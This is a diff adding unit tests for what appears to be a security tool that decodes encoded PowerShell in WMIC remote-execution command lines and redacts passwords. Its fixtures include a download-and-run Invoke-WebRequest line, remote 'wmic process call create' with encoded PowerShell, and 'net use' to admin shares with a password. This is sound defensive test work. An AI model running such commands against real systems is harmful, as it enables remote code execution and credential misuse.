@@ -49,3 +49,36 @@ describe('the decoded script cap', () => {
       .toBe('Invoke-WebRequest http://198.51.100.23/a.ps1 -OutFile a.ps1\nWrite-Host "update check"\n.\\a.ps1');
   });
 });
+
+describe('passwords in a script longer than the cap', () => {
+  // the net use form of redaction.test.ts (Microsoft's net use documentation): one share per server
+  const netUse = (n: number): string => `net use \\\\fs${n}\\c$ /user:corp\\adm Winter2025!Sales\n`;
+  const remote = (text: string): string => `wmic /node:FS01 process call create "powershell -nop -enc ${encodePs(text)}"`;
+
+  it('withholds the base64 of a script that types a password past the cap, and hides the password everywhere', () => {
+    const text = `${script(1300)}\n${netUse(2)}`;
+    const a = wmic(remote(text), { actor_process_command_line: 'cmd.exe /c "echo Winter2025!Sales| clip"' });
+    expect(a.decodedScript).toBe(`${script(1000)}${marker(text.length)}`);
+    expect(a.commandLine).toContain('[encoded command withheld: it contains a password]');
+    expect(a.remoteCommand).toBe('powershell -nop -enc [encoded command withheld: it contains a password]');
+    expect(a.parentCommandLine).toBe('cmd.exe /c "echo ***| clip"');
+    const everything = JSON.stringify(a);
+    expect(everything).not.toContain(encodePs(text).slice(0, 40));
+    expect(everything).not.toContain('Winter2025');
+  });
+
+  it('hides a password straddling the cap whole', () => {
+    const a = wmic(remote(`${script(960)}\n${netUse(2)}${script(500)}`));
+    expect(a.decodedScript).toContain('/user:corp\\adm ***\n');
+    expect(a.decodedScript).not.toMatch(/Winter|Sales/);
+  });
+
+  it('shows a long script whole when hiding its passwords brings it under the cap', () => {
+    const lines = Array.from({ length: 27 }, (_, i) => netUse(10 + i));
+    const text = lines.join('');
+    const hidden = lines.map((l) => l.replace('Winter2025!Sales', '***')).join('');
+    expect(text.length).toBeGreaterThan(DECODED_SCRIPT_MAX + 256);
+    expect(hidden.length).toBeLessThanOrEqual(DECODED_SCRIPT_MAX);
+    expect(wmic(remote(text)).decodedScript).toBe(hidden);
+  });
+});
